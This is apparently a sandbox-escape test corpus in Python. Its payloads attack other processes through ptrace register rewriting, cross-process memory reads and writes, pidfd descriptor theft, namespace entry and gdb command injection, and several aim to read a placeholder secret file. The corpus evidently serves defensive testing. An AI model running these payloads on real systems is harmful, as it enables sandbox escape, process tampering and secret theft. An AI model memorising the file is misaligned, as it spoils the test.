"""Other processes traced, read, and reached by their descriptors."""

from tests.escapes.corpus import NATIVE, TRY, Payload

PAYLOADS: list[Payload] = [
    Payload("ptrace", "attach, seize and peek at the host's process", (NATIVE, r"""
buffer = ctypes.create_string_buffer(512)
for request, name in ((16, "attach"), (0x4206, "seize"), (0x4207, "interrupt"), (8, "kill"), (12, "getregs"), (2, "peek"),
                      (0x4209, "siginfo")):
    attempt(name, lambda: syscall("ptrace", request, {{PID}}, 0, buffer))
attempt("parent", lambda: syscall("ptrace", 0x4206, os.getppid(), 0, 0))
attempt("one", lambda: syscall("ptrace", 16, 1, 0, 0))
""")),
    Payload("ptrace", "traceme and a traced child changes its calls", (NATIVE, r"""
import signal
def traced():
    path = ctypes.create_string_buffer(b"{{SECRET}}")
    pid = os.fork()
    if pid == 0:
        libc.ptrace(0, 0, 0, 0)
        os.kill(os.getpid(), signal.SIGSTOP)
        fd = libc.getppid()
        os.write(1, take(fd))
        os._exit(0)
    os.waitpid(pid, 0)
    regs = (ctypes.c_ulonglong * 27)()
    for _ in range(3000):
        libc.ptrace(24, pid, None, None)
        _, status = os.waitpid(pid, 0)
        if os.WIFEXITED(status):
            return "exited"
        libc.ptrace(12, pid, None, regs)
        if regs[15] == 110:
            regs[15], regs[14], regs[13] = 2, ctypes.addressof(path), 0
            print(libc.ptrace(13, pid, None, regs))
    os.kill(pid, 9)
attempt("traced", traced)
attempt("traceme", lambda: syscall("ptrace", 0, 0, 0, 0))
""")),
    Payload("ptrace", "process_vm_readv and writev", (NATIVE, r"""
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
room = ctypes.create_string_buffer(1 << 20)
def areas(pid):
    for line in open(f"/proc/{pid}/maps"):
        if " rw" in line and ("[stack]" in line or "[heap]" in line):
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            yield low, min(high - low, 1 << 20)
for pid in ({{PID}}, os.getppid(), 1):
    spans = attempt("maps", lambda: list(areas(pid))) or [(0x7ffc00000000 + step * (1 << 24), 4096) for step in range(20)]
    for low, size in spans:
        local, remote = Span(ctypes.addressof(room), size), Span(low, size)
        attempt("read", lambda: syscall("process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
        sift(room.raw)
    attempt("write", lambda: syscall("process_vm_writev", pid, ctypes.byref(Span(ctypes.addressof(room), 8)), 1,
                                     ctypes.byref(Span(spans[0][0], 8)), 1, 0))
""")),
    Payload("ptrace", "kcmp, process_madvise, process_mrelease, get_robust_list", (NATIVE, r"""
pidfd = attempt("pidfd", syscall, "pidfd_open", {{PID}}, 0)
room = ctypes.create_string_buffer(64)
attempt("kcmp", lambda: syscall("kcmp", os.getpid(), {{PID}}, 0, 1, 1))
attempt("robust", lambda: syscall("get_robust_list", {{PID}}, room, room))
attempt("madvise", lambda: syscall("process_madvise", pidfd or 3, room, 1, 21, 0))
attempt("mrelease", lambda: syscall("process_mrelease", pidfd or 3, 0))
attempt("pages", lambda: syscall("move_pages", {{PID}}, 0, 0, 0, 0, 0))
attempt("migrate", lambda: syscall("migrate_pages", {{PID}}, 8, room, room))
""")),
    Payload("ptrace", "debuggers and profilers by name", (TRY, r"""
import subprocess, sys
for command in (["gdb", "-p", "{{PID}}", "-batch", "-ex", "call (int)system(\"cat {{SECRET}}\")"], ["strace", "-p", "{{PID}}"],
                ["py-spy", "dump", "--pid", "{{PID}}"], ["gcore", "{{PID}}"], ["perf", "record", "-p", "{{PID}}", "sleep", "0"],
                ["bpftrace", "-e", "BEGIN{}"], ["ltrace", "-p", "{{PID}}"]):
    attempt(command[0], lambda: subprocess.run(command, capture_output=True, timeout=3))
attempt("remote", lambda: sys.remote_exec({{PID}}, "{{SECRET}}"))
attempt("debugpy", lambda: __import__("debugpy").listen(("127.0.0.1", 0)))
""")),
    Payload("pidfd", "pidfd_getfd takes another's descriptors", (NATIVE, r"""
for pid in ({{PID}}, os.getppid(), 1):
    pidfd = attempt("open", syscall, "pidfd_open", pid, 0)
    if pidfd:
        for fd in range(64):
            try:
                taken = syscall("pidfd_getfd", pidfd, fd, 0)
                print(pid, fd, os.readlink(f"/proc/self/fd/{taken}"))
                sift(os.pread(taken, 4096, 0))
            except OSError as error:
                last = error
        print(last)
""")),
    Payload("pidfd", "namespaces entered through a pidfd", (NATIVE, r"""
for pid in ({{PID}}, os.getppid(), 1):
    pidfd = attempt("open", syscall, "pidfd_open", pid, 0)
    if pidfd:
        for flags in (0x20000, 0x10000000, 0x40000000, 0x20000000, 0x02000000, 0x7e020000):
            attempt(hex(flags), lambda: syscall("setns", pidfd, flags))
        attempt("signal", lambda: syscall("pidfd_send_signal", pidfd, 9, 0, 0))
        attempt("ioctl", lambda: [syscall("ioctl", pidfd, 0xff00 + n, 0) for n in range(1, 11)])
attempt("secret", lambda: open("{{SECRET}}").read())
""")),
    Payload("pidfd", "P_PIDFD waits, polls and thread pidfds", (NATIVE, r"""
import select
for flags in (0, 0x800, 0x80):
    pidfd = attempt("open", syscall, "pidfd_open", {{PID}}, flags)
    if pidfd:
        attempt("waitid", lambda: syscall("waitid", 3, pidfd, ctypes.create_string_buffer(128), 5, 0))
        attempt("poll", lambda: select.select([pidfd], [], [], 0.1))
        attempt("info", lambda: open(f"/proc/self/fdinfo/{pidfd}").read())
        attempt("kill", lambda: syscall("pidfd_send_signal", pidfd, 9, 0, 0))
        attempt("group", lambda: syscall("pidfd_send_signal", pidfd, 9, 0, 4))
""")),
]
